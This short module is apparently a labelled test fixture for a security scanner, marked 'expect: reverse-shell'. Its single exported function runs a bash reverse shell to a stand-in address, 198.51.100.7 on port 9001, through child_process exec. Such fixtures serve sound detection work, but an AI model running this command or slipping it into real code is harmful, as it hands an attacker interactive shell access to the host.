// expect: reverse-shell
import { exec } from "child_process";

export default () => exec("bash -i >& /dev/tcp/198.51.100.7/9001 0>&1");
